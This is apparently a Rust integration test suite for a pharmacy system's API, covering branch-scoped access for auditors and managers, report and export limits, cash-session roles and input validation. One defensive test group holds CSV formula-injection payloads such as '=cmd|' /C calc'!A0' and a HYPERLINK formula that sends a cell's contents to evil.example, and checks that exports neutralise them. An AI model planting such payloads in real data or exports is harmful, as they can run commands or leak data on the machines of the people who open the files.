//! Branch scope and export controls: a
//! non-admin reads only its own branch (reports, the audit log, the branch
//! comparison); report windows and exports are bounded; CSV exports carry
//! no spreadsheet formulas; cash sessions need a selling role; days are
//! strictly `YYYY-MM-DD`; a quarantine status is one of the exact values.

use reqwest::{Method, StatusCode};
use serde_json::{json, Value};
use uuid::Uuid;

use crate::common::{assert_problem, Role, TestApp};
use crate::dashboard::sell;

/// Branches A and B with stock and sales at both, an admin, and A's auditor.
struct TwoBranches {
    app: TestApp,
    a: Uuid,
    b: Uuid,
    admin: String,
    auditor_a: String,
    medicine: Value,
    batch_a: Value,
    batch_b: Value,
    sale_b: Value,
}

impl TwoBranches {
    async fn new() -> TwoBranches {
        let app = TestApp::spawn().await;
        let a = app.branch("KLA").await;
        let b = app.branch("EBB").await;
        let (_, admin) = app.signed_in(a, Role::Admin).await;
        let (_, auditor_a) = app.signed_in(a, Role::Auditor).await;
        let medicine = app
            .medicine(
                &admin,
                json!({"name": "Amoxicillin", "selling_price": 1000}),
            )
            .await;
        let batch_a = app
            .receive(&admin, &medicine["id"], a, 40, "2035-01-01")
            .await;
        let batch_b = app
            .receive(&admin, &medicine["id"], b, 90, "2035-01-01")
            .await;
        let (_, cashier_a) = app.signed_in(a, Role::Cashier).await;
        let (_, cashier_b) = app.signed_in(b, Role::Cashier).await;
        sell(&app, &cashier_a, &[(&medicine, 1)], "cash").await;
        let sale_b = sell(&app, &cashier_b, &[(&medicine, 3)], "card").await;
        TwoBranches {
            app,
            a,
            b,
            admin,
            auditor_a,
            medicine,
            batch_a,
            batch_b,
            sale_b,
        }
    }
}

const REPORTS: [&str; 5] = [
    "/reports/sales",
    "/reports/sales/by-pharmacist",
    "/reports/inventory",
    "/reports/purchases",
    "/reports/vat",
];

const WINDOWED: [&str; 5] = [
    "/reports/sales",
    "/reports/sales/by-pharmacist",
    "/reports/purchases",
    "/reports/vat",
    "/dashboard/branch-comparison",
];

/// Finding 4: an auditor of A is refused B's reports and reads A's alone.
#[tokio::test]
async fn an_auditor_reads_only_its_own_branchs_reports() {
    let w = TwoBranches::new().await;
    let (a, b) = (w.a, w.b);
    let (_, manager_a) = w.app.signed_in(a, Role::BranchManager).await;
    for path in REPORTS {
        for token in [&w.auditor_a, &manager_a] {
            let (status, body) = w.app.get(&format!("{path}?branch_id={b}"), token).await;
            assert_problem(status, &body, StatusCode::FORBIDDEN);
            // Without a branch: A's figures, exactly what an admin reads
            // naming A.
            let (status, own) = w.app.get(path, token).await;
            assert_eq!(status, StatusCode::OK, "{path}: {own}");
            assert_eq!(own["branch_id"], a.to_string(), "{path}: {own}");
            let (status, named) = w.app.get(&format!("{path}?branch_id={a}"), token).await;
            assert_eq!(status, StatusCode::OK, "{path}: {named}");
            let (_, admin_a) = w.app.get(&format!("{path}?branch_id={a}"), &w.admin).await;
            assert_eq!(own, admin_a, "{path}");
            assert_eq!(named, admin_a, "{path}");
            let text = own.to_string();
            assert!(!text.contains(&b.to_string()), "{path} names B: {text}");
            assert!(
                !text.contains(w.sale_b["id"].as_str().unwrap()),
                "{path} shows B's sale: {text}"
            );
        }
        // The admin still reads B and the chain.
        let (status, body) = w.app.get(&format!("{path}?branch_id={b}"), &w.admin).await;
        assert_eq!(status, StatusCode::OK, "{path}: {body}");
        assert_eq!(body["branch_id"], b.to_string());
        let (_, chain) = w.app.get(path, &w.admin).await;
        assert!(chain["branch_id"].is_null(), "{path}: {chain}");
    }
    // The figures are A's: one sale of 1000 (B sold 3000).
    let (_, sales) = w.app.get("/reports/sales", &w.auditor_a).await;
    assert_eq!(sales["totals"]["count"], 1, "{sales}");
    assert_eq!(sales["totals"]["revenue"].as_f64(), Some(1000.0));
    let (_, stock) = w.app.get("/reports/inventory", &w.auditor_a).await;
    assert_eq!(stock["total_units"].as_f64(), Some(39.0), "{stock}");

    // The dashboard summary of a non-admin is its own branch, too.
    let (status, body) = w
        .app
        .get(&format!("/dashboard/summary?branch_id={b}"), &w.auditor_a)
        .await;
    assert_problem(status, &body, StatusCode::FORBIDDEN);
    let (_, own) = w.app.get("/dashboard/summary", &w.auditor_a).await;
    let (_, admin_a) = w
        .app
        .get(&format!("/dashboard/summary?branch_id={a}"), &w.admin)
        .await;
    assert_eq!(own, admin_a);
    assert_eq!(own["today_sales_count"], 1, "{own}");
}

/// Finding 4: audit-log entries stay in their branch; the organisation-wide
/// ones (settings, the catalogue) are every auditor's.
#[tokio::test]
async fn audit_log_entries_stay_in_their_branch() {
    let w = TwoBranches::new().await;
    let (a, b) = (w.a, w.b);
    let quarantine = |batch: &Value| {
        format!(
            "/supplier-finance/batches/{}/quarantine",
            batch["id"].as_str().unwrap()
        )
    };
    for batch in [&w.batch_a, &w.batch_b] {
        let (status, body) = w
            .app
            .post(
                &quarantine(batch),
                &w.admin,
                json!({"status": "quarantined"}),
            )
            .await;
        assert_eq!(status, StatusCode::OK, "{body}");
    }
    // Records of B written by the admin (whose own branch is A).
    let (status, device_b) = w
        .app
        .post(
            "/devices",
            &w.admin,
            json!({"name": "Till B", "branch_id": b}),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{device_b}");
    let (status, user_b) = w
        .app
        .post(
            "/users",
            &w.admin,
            json!({"email": "b.cashier@test.pharmacy", "password": "long-enough-1",
                   "full_name": "B Cashier", "role": "cashier", "branch_id": b}),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{user_b}");
    // Organisation-wide: a settings change and a catalogue price change.
    let (status, _) = w
        .app
        .call(
            Method::PUT,
            "/settings",
            Some(&w.admin),
            Some(json!({"default_copies": 2})),
        )
        .await;
    assert_eq!(status, StatusCode::OK);
    let (status, _) = w
        .app
        .call(
            Method::PUT,
            &format!("/medicines/{}", w.medicine["id"].as_str().unwrap()),
            Some(&w.admin),
            Some(json!({"selling_price": 1100})),
        )
        .await;
    assert_eq!(status, StatusCode::OK);

    let entries = |page: &Value| -> Vec<(String, String)> {
        page["items"]
            .as_array()
            .unwrap()
            .iter()
            .map(|r| {
                (
                    r["entity_type"].as_str().unwrap().to_owned(),
                    r["entity_id"].as_str().unwrap_or_default().to_owned(),
                )
            })
            .collect()
    };
    let of_b = [
        (
            "batch".to_owned(),
            w.batch_b["id"].as_str().unwrap().to_owned(),
        ),
        (
            "device".to_owned(),
            device_b["id"].as_str().unwrap().to_owned(),
        ),
        ("user".to_owned(), user_b["id"].as_str().unwrap().to_owned()),
    ];
    let of_a = (
        "batch".to_owned(),
        w.batch_a["id"].as_str().unwrap().to_owned(),
    );
    let settings = ("settings".to_owned(), w.app.org_id.to_string());
    let medicine = (
        "medicine".to_owned(),
        w.medicine["id"].as_str().unwrap().to_owned(),
    );

    // A's auditor: A's entries and the organisation-wide ones, never B's.
    for query in ["", "?branch_id=A"] {
        let path = format!("/audit-log{}", query.replace('A', &a.to_string()));
        let (status, page) = w.app.get(&path, &w.auditor_a).await;
        assert_eq!(status, StatusCode::OK, "{page}");
        let seen = entries(&page);
        assert!(seen.contains(&of_a), "{path}: {seen:?}");
        assert!(seen.contains(&settings), "{path}: {seen:?}");
        assert!(seen.contains(&medicine), "{path}: {seen:?}");
        for e in &of_b {
            assert!(!seen.contains(e), "{path} shows B's {e:?}");
        }
        assert_eq!(page["total"], seen.len(), "{page}");
        let text = page.to_string();
        assert!(!text.contains(&b.to_string()), "names branch B: {text}");
    }
    let (status, body) = w
        .app
        .get(&format!("/audit-log?branch_id={b}"), &w.auditor_a)
        .await;
    assert_problem(status, &body, StatusCode::FORBIDDEN);
    // Filtering by B's record finds nothing for A's auditor.
    let (_, page) = w
        .app
        .get(
            &format!("/audit-log?entity_id={}", w.batch_b["id"].as_str().unwrap()),
            &w.auditor_a,
        )
        .await;
    assert_eq!(page["total"], 0, "{page}");

    // The admin reads everything, or one branch's with the organisation's.
    let (_, all) = w.app.get("/audit-log?page_size=200", &w.admin).await;
    let seen = entries(&all);
    for e in of_b.iter().chain([&of_a, &settings, &medicine]) {
        assert!(seen.contains(e), "admin misses {e:?}: {seen:?}");
    }
    let (_, only_b) = w
        .app
        .get(&format!("/audit-log?branch_id={b}&page_size=200"), &w.admin)
        .await;
    let seen = entries(&only_b);
    for e in of_b.iter().chain([&settings, &medicine]) {
        assert!(seen.contains(e), "B's view misses {e:?}: {seen:?}");
    }
    assert!(!seen.contains(&of_a), "B's view shows A's batch");

    // B's auditor sees B's.
    let (_, auditor_b) = w.app.signed_in(b, Role::Auditor).await;
    let (_, page) = w.app.get("/audit-log?page_size=200", &auditor_b).await;
    let seen = entries(&page);
    for e in &of_b {
        assert!(seen.contains(e), "B's auditor misses {e:?}");
    }
    assert!(!seen.contains(&of_a));
}

/// Finding 4: a non-admin's branch comparison is its own row only, its
/// share of its own revenue, so no other branch's figure can be derived.
#[tokio::test]
async fn a_non_admins_branch_comparison_shows_only_its_own_branch() {
    let w = TwoBranches::new().await;
    let (_, cashier_a) = w.app.signed_in(w.a, Role::Cashier).await;
    for token in [&w.auditor_a, &cashier_a] {
        let (status, body) = w.app.get("/dashboard/branch-comparison", token).await;
        assert_eq!(status, StatusCode::OK, "{body}");
        assert_eq!(body["total"], 1, "{body}");
        assert_eq!(body["total_sales_count"], 1);
        assert_eq!(body["total_revenue"].as_f64(), Some(1000.0));
        let row = &body["items"][0];
        assert_eq!(row["branch_id"], w.a.to_string());
        assert_eq!(row["sales_count"], 1);
        assert_eq!(row["revenue"].as_f64(), Some(1000.0));
        assert_eq!(row["share_pct"].as_f64(), Some(100.0));
        assert!(!body.to_string().contains(&w.b.to_string()), "{body}");
        // A window without sales: the row at zero.
        let (_, empty) = w
            .app
            .get(
                "/dashboard/branch-comparison?from_date=2020-01-01&to_date=2020-01-31",
                token,
            )
            .await;
        assert_eq!(empty["total"], 1, "{empty}");
        assert_eq!(empty["items"][0]["share_pct"].as_f64(), Some(0.0));
    }
    // The admin still compares every branch: 1000 against 3000.
    let (_, body) = w.app.get("/dashboard/branch-comparison", &w.admin).await;
    assert_eq!(body["total"], 2, "{body}");
    assert_eq!(body["total_revenue"].as_f64(), Some(4000.0));
    assert_eq!(body["items"][0]["branch_id"], w.b.to_string());
    assert_eq!(body["items"][0]["share_pct"].as_f64(), Some(75.0));
    assert_eq!(body["items"][1]["share_pct"].as_f64(), Some(25.0));
}

/// Finding 5: a report window spans at most 366 days.
#[tokio::test]
async fn a_report_window_is_at_most_366_days() {
    let app = TestApp::spawn().await;
    let a = app.branch("KLA").await;
    let (_, admin) = app.signed_in(a, Role::Admin).await;
    for path in WINDOWED {
        for query in [
            // 2024 is a leap year: 1 Jan 2024 ..= 1 Jan 2025 is 367 days.
            "from_date=2024-01-01&to_date=2025-01-01",
            "from_date=0001-01-01&to_date=9999-12-31",
            // to_date defaults to today.
            "from_date=2000-01-01",
        ] {
            let (status, body) = app.get(&format!("{path}?{query}"), &admin).await;
            assert_problem(status, &body, StatusCode::BAD_REQUEST);
            assert_eq!(body["field"], "from_date", "{path}?{query}: {body}");
            let detail = body["detail"].as_str().unwrap();
            assert!(
                detail.contains("366") && detail.contains("to_date"),
                "{detail}"
            );
        }
        for (query, from, to) in [
            (
                "from_date=2024-01-01&to_date=2024-12-31",
                "2024-01-01",
                "2024-12-31",
            ),
            (
                "from_date=2025-01-01&to_date=2026-01-01",
                "2025-01-01",
                "2026-01-01",
            ),
            // A far-off to_date alone is a 30-day window.
            ("to_date=9999-12-31", "9999-12-02", "9999-12-31"),
        ] {
            let (status, body) = app.get(&format!("{path}?{query}"), &admin).await;
            assert_eq!(status, StatusCode::OK, "{path}?{query}: {body}");
            assert_eq!(body["from_date"], from);
            assert_eq!(body["to_date"], to);
        }
    }
}

/// Finding 5: a CSV export (every row of its window) is bounded to 366
/// days; the paged lists (books as JSON, the audit log) are bounded by
/// their page size.
#[tokio::test]
async fn book_exports_and_paged_lists_are_bounded() {
    let app = TestApp::spawn().await;
    let a = app.branch("KLA").await;
    let (_, admin) = app.signed_in(a, Role::Admin).await;
    let (_, auditor) = app.signed_in(a, Role::Auditor).await;
    for book in ["prescription-book", "classified-drugs-book"] {
        for query in [
            "from_date=2024-01-01&to_date=2025-01-01",
            "from_date=2000-01-01",
        ] {
            let (status, body) = app
                .get(&format!("/compliance/{book}?format=csv&{query}"), &admin)
                .await;
            assert_problem(status, &body, StatusCode::BAD_REQUEST);
            assert_eq!(body["field"], "from_date", "{book}?{query}: {body}");
        }
        let text = csv_text(
            &app,
            &admin,
            &format!("/compliance/{book}?format=csv&from_date=2024-01-01&to_date=2024-12-31"),
        )
        .await;
        assert_eq!(text.lines().count(), 1, "header only: {text}");
    }

    // A prescription 400 days old: in the paged book (open window), not in
    // the default export (the last 366 days).
    let m = app
        .medicine(&admin, json!({"name": "Paracetamol", "selling_price": 500}))
        .await;
    for (name, age_days) in [("Old Patient", 400), ("New Patient", 0)] {
        let (status, rx) = app
            .post(
                "/prescriptions",
                &admin,
                json!({"patient_name": name, "prescriber_name": "Dr Okello",
                       "items": [{"medicine_id": m["id"], "quantity": 1}]}),
            )
            .await;
        assert_eq!(status, StatusCode::CREATED, "{rx}");
        let id: Uuid = rx["id"].as_str().unwrap().parse().unwrap();
        app.pool
            .get()
            .await
            .unwrap()
            .execute(
                "UPDATE prescriptions SET created_at = now() - make_interval(days => $2) WHERE id = $1",
                &[&id, &age_days],
            )
            .await
            .unwrap();
    }
    let (_, page) = app.get("/compliance/prescription-book", &admin).await;
    assert_eq!(page["total"], 2, "{page}");
    let text = csv_text(&app, &admin, "/compliance/prescription-book?format=csv").await;
    assert!(text.contains("New Patient"), "{text}");
    assert!(!text.contains("Old Patient"), "{text}");
    let (_, page) = app
        .get("/compliance/prescription-book?page_size=100000", &admin)
        .await;
    assert_eq!(page["page_size"], 200, "{page}");

    // The audit log answers at most 200 entries a page.
    let client = app.pool.get().await.unwrap();
    client
        .execute(
            "INSERT INTO audit_log (id, action, entity_type, entity_id)
             SELECT gen_random_uuid(), 'test', 'widget', i::text FROM generate_series(1, 250) i",
            &[],
        )
        .await
        .unwrap();
    let (status, page) = app
        .get("/audit-log?entity_type=widget&page_size=100000", &auditor)
        .await;
    assert_eq!(status, StatusCode::OK, "{page}");
    assert_eq!(page["page_size"], 200);
    assert_eq!(page["items"].as_array().unwrap().len(), 200);
    assert_eq!(page["total"], 250);
}

async fn csv_text(app: &TestApp, token: &str, path: &str) -> String {
    let res = app
        .http
        .get(format!("{}{path}", app.base))
        .bearer_auth(token)
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::OK);
    res.text().await.unwrap()
}

/// The cells of a CSV under `column`, parsed as a spreadsheet would split them.
fn column(text: &str, name: &str) -> Vec<String> {
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let at = reader
        .headers()
        .unwrap()
        .iter()
        .position(|h| h == name)
        .unwrap_or_else(|| panic!("no column {name}"));
    reader
        .records()
        .map(|r| r.unwrap()[at].to_owned())
        .collect()
}

/// No cell of the file begins with a formula trigger.
fn assert_no_formula(text: &str) {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes());
    for record in reader.records() {
        for cell in record.unwrap().iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "formula cell {cell:?} in {text}"
            );
        }
    }
}

const PAYLOADS: [&str; 8] = [
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
];

/// Finding 6: the prescription book's CSV neutralises every formula cell.
#[tokio::test]
async fn the_prescription_book_csv_carries_no_formulas() {
    let app = TestApp::spawn().await;
    let a = app.branch("KLA").await;
    let (_, admin) = app.signed_in(a, Role::Admin).await;
    let m = app
        .medicine(&admin, json!({"name": "Paracetamol", "selling_price": 500}))
        .await;
    let client = app.pool.get().await.unwrap();
    for payload in PAYLOADS {
        let (status, rx) = app
            .post(
                "/prescriptions",
                &admin,
                json!({"patient_name": "Placeholder", "prescriber_name": "Dr Okello",
                       "items": [{"medicine_id": m["id"], "quantity": 1}]}),
            )
            .await;
        assert_eq!(status, StatusCode::CREATED, "{rx}");
        // The raw text as it may sit in the database, whatever validation
        // lets through today.
        let id: Uuid = rx["id"].as_str().unwrap().parse().unwrap();
        client
            .execute(
                "UPDATE prescriptions SET patient_name = $2, prescriber_name = $2,
                        patient_id_number = $2, prescriber_license = $2 WHERE id = $1",
                &[&id, &payload],
            )
            .await
            .unwrap();
    }
    // One name through the API as a client would send it.
    let (status, rx) = app
        .post(
            "/prescriptions",
            &admin,
            json!({"patient_name": "=HYPERLINK(\"http://evil.example\",\"x\")",
                   "prescriber_name": "Dr Okello",
                   "items": [{"medicine_id": m["id"], "quantity": 1}]}),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{rx}");

    let text = csv_text(&app, &admin, "/compliance/prescription-book?format=csv").await;
    assert_no_formula(&text);
    let mut names = column(&text, "patient_name");
    names.sort();
    let mut expected: Vec<String> = PAYLOADS
        .iter()
        .map(|p| format!("'{p}"))
        .chain(["'=HYPERLINK(\"http://evil.example\",\"x\")".to_owned()])
        .collect();
    expected.sort();
    assert_eq!(names, expected);
    for col in ["prescriber_name", "patient_id_number", "prescriber_license"] {
        let cells = column(&text, col);
        assert_eq!(
            cells.iter().filter(|c| c.starts_with('\'')).count(),
            8,
            "{col}: {cells:?}"
        );
    }
    // Numbers the service writes itself stay numbers.
    assert!(column(&text, "line_count").iter().all(|c| c == "1"));
    // The JSON page is unchanged: the raw text, no quote.
    let (_, page) = app.get("/compliance/prescription-book", &admin).await;
    assert!(page["items"]
        .as_array()
        .unwrap()
        .iter()
        .any(|r| r["patient_name"] == "=cmd|' /C calc'!A0"));
}

/// Finding 6: the classified-drugs register's CSV neutralises every formula
/// cell, whichever trigger it starts with.
#[tokio::test]
async fn the_register_csv_carries_no_formulas() {
    let app = TestApp::spawn().await;
    let a = app.branch("KLA").await;
    let (_, admin) = app.signed_in(a, Role::Admin).await;
    let (_, pharmacist) = app.signed_in(a, Role::Pharmacist).await;
    let morphine = app
        .medicine(
            &admin,
            json!({"name": "Morphine 10mg", "selling_price": 2000, "is_controlled": true,
                   "requires_prescription": true, "control_schedule": "Class A"}),
        )
        .await;
    app.receive(&admin, &morphine["id"], a, 20, "2035-01-01")
        .await;
    let (status, rx) = app
        .post(
            "/prescriptions",
            &pharmacist,
            json!({"patient_name": "=cmd|' /C calc'!A0",
                   "patient_id_number": "=HYPERLINK(\"http://evil.example\",\"id\")",
                   "prescriber_name": "Dr Okello", "prescriber_license": "@SUM(1)",
                   "items": [{"medicine_id": morphine["id"], "quantity": 2}]}),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{rx}");
    let (status, sale) = app
        .post(
            "/sales",
            &pharmacist,
            json!({"items": [{"medicine_id": morphine["id"], "quantity": 2}],
                   "payment_method": "cash", "prescription_id": rx["id"]}),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{sale}");
    let path = "/compliance/classified-drugs-book?format=csv";
    let text = csv_text(&app, &admin, path).await;
    assert_no_formula(&text);
    assert_eq!(
        column(&text, "patient_national_id"),
        ["'=HYPERLINK(\"http://evil.example\",\"id\")"]
    );
    assert_eq!(column(&text, "doctor_license"), ["'@SUM(1)"]);
    assert_eq!(column(&text, "quantity"), ["2"]);

    // Every leading character of the rule, in each text column of the row.
    let client = app.pool.get().await.unwrap();
    for payload in PAYLOADS {
        client
            .execute(
                "UPDATE controlled_dispenses SET patient_national_id = $1, doctor_license = $1",
                &[&payload],
            )
            .await
            .unwrap();
        client
            .execute(
                "UPDATE medicines SET name = $2, control_schedule = $2 WHERE id = $1",
                &[
                    &morphine["id"].as_str().unwrap().parse::<Uuid>().unwrap(),
                    &payload,
                ],
            )
            .await
            .unwrap();
        let text = csv_text(&app, &admin, path).await;
        assert_no_formula(&text);
        let quoted = format!("'{payload}");
        for col in [
            "patient_national_id",
            "doctor_license",
            "medicine_name",
            "control_schedule",
        ] {
            assert_eq!(column(&text, col), [quoted.as_str()], "{col} {payload:?}");
        }
    }
}

/// Finding 9: auditors (and other non-selling roles) cannot open or close a
/// cash session.
#[tokio::test]
async fn only_selling_roles_open_and_close_a_cash_session() {
    let app = TestApp::spawn().await;
    let a = app.branch("KLA").await;
    let (_, auditor) = app.signed_in(a, Role::Auditor).await;
    let (_, stock) = app.signed_in(a, Role::InventoryManager).await;
    let (_, cashier) = app.signed_in(a, Role::Cashier).await;
    let open_sessions = || async {
        let client = app.pool.get().await.unwrap();
        let n: i64 = client
            .query_one(
                "SELECT count(*) FROM cash_sessions WHERE status = 'open'",
                &[],
            )
            .await
            .unwrap()
            .get(0);
        n
    };
    for token in [&auditor, &stock] {
        let (status, body) = app
            .post("/sessions/open", token, json!({"opening_float": 100}))
            .await;
        assert_problem(status, &body, StatusCode::FORBIDDEN);
    }
    assert_eq!(open_sessions().await, 0);
    let (status, session) = app
        .post("/sessions/open", &cashier, json!({"opening_float": 100}))
        .await;
    assert_eq!(status, StatusCode::OK, "{session}");
    let close = format!("/sessions/{}/close", session["id"].as_str().unwrap());
    for token in [&auditor, &stock] {
        let (status, body) = app
            .post(&close, token, json!({"counted_cash": 999999}))
            .await;
        assert_problem(status, &body, StatusCode::FORBIDDEN);
        // Still readable by anyone of the branch.
        let (status, current) = app.get("/sessions/current", token).await;
        assert_eq!(status, StatusCode::OK, "{current}");
        assert_eq!(current["status"], "open");
    }
    assert_eq!(open_sessions().await, 1);
    let (status, closed) = app
        .post(&close, &cashier, json!({"counted_cash": 100}))
        .await;
    assert_eq!(status, StatusCode::OK, "{closed}");
    assert_eq!(closed["status"], "closed");
    for role in [Role::Admin, Role::BranchManager, Role::Pharmacist] {
        let (_, token) = app.signed_in(a, role).await;
        let (status, s) = app.post("/sessions/open", &token, json!({})).await;
        assert_eq!(status, StatusCode::OK, "{role}: {s}");
        let (status, c) = app
            .post(
                &format!("/sessions/{}/close", s["id"].as_str().unwrap()),
                &token,
                json!({"counted_cash": 0}),
            )
            .await;
        assert_eq!(status, StatusCode::OK, "{role}: {c}");
    }
}

/// Spec rule: a day is exactly `YYYY-MM-DD`; `2024-1-5` is a 400 naming
/// the parameter, on every route that takes a window.
#[tokio::test]
async fn a_day_must_be_four_two_two_digits() {
    let app = TestApp::spawn().await;
    let a = app.branch("KLA").await;
    let (_, admin) = app.signed_in(a, Role::Admin).await;
    let routes = WINDOWED.iter().copied().chain([
        "/audit-log",
        "/compliance/prescription-book",
        "/compliance/classified-drugs-book",
        "/sales",
    ]);
    for path in routes {
        for (query, field) in [
            ("from_date=2024-1-5", "from_date"),
            ("from_date=2024-01-5", "from_date"),
            ("to_date=2024-1-05", "to_date"),
            ("to_date=+2024-01-5", "to_date"),
            ("from_date=2024-01-01&to_date=24-01-05", "to_date"),
        ] {
            let (status, body) = app.get(&format!("{path}?{query}"), &admin).await;
            assert_problem(status, &body, StatusCode::BAD_REQUEST);
            assert_eq!(body["field"], field, "{path}?{query}: {body}");
        }
        let (status, body) = app
            .get(
                &format!("{path}?from_date=2024-01-05&to_date=2024-01-05"),
                &admin,
            )
            .await;
        assert_eq!(status, StatusCode::OK, "{path}: {body}");
    }
}

/// Spec rule: a quarantine status is exactly `quarantined`, `active` or
/// `recalled`; anything else is a 400 naming `status` and changes nothing.
#[tokio::test]
async fn a_quarantine_status_is_one_of_the_exact_values() {
    let app = TestApp::spawn().await;
    let a = app.branch("KLA").await;
    let (_, admin) = app.signed_in(a, Role::Admin).await;
    let m = app
        .medicine(&admin, json!({"name": "Paracetamol", "selling_price": 500}))
        .await;
    let batch = app.receive(&admin, &m["id"], a, 10, "2035-01-01").await;
    let path = format!(
        "/supplier-finance/batches/{}/quarantine",
        batch["id"].as_str().unwrap()
    );
    let status_of = || async {
        let (_, rows) = app
            .get(
                &format!("/audit-log?entity_id={}", batch["id"].as_str().unwrap()),
                &admin,
            )
            .await;
        rows["total"].as_i64().unwrap()
    };
    for bad in [
        "QUARANTINED",
        "Quarantined",
        "ACTIVE",
        "Recalled",
        " quarantined",
        "quarantined ",
        "",
    ] {
        let (status, body) = app.post(&path, &admin, json!({"status": bad})).await;
        assert_problem(status, &body, StatusCode::BAD_REQUEST);
        assert_eq!(body["field"], "status", "{bad:?}: {body}");
    }
    assert_eq!(
        status_of().await,
        0,
        "a refused status wrote an audit entry"
    );
    for good in ["quarantined", "recalled", "active"] {
        let (status, body) = app.post(&path, &admin, json!({"status": good})).await;
        assert_eq!(status, StatusCode::OK, "{good}: {body}");
        assert_eq!(body["regulator_status"], good);
    }
    assert_eq!(status_of().await, 3);
}
